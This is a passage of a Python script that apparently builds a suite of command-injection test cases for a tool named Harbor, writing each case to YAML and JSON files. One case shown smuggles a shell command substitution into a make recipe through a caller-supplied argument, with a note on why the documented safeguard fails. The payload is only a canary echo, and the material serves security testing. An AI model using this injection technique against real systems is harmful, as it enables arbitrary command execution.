''', {"target": "x$$(echo HARBOR-PWNED-$$((6*7)) >&2)"}, "The docs say a literal env: of an ARG_* name wins in the environment, so make (no grammar) seems to get only 'app'; but bash imports that variable as exported and the prologue then assigns the caller's value to it, so make's $(ARG_target) recipe runs the caller's $$(…) (make turns $$ into $ for the shell).")


if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for i, (name, cls, y, args, why, extra) in enumerate(ATT, 1):
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": args, "class": cls, "why": why}
        spec.update(extra)
        assert "HARBOR-PWNED-42" not in json.dumps(spec)
        json.dump(spec, open(base + ".json", "w"), indent=1)
    print(len(ATT), "attacks")
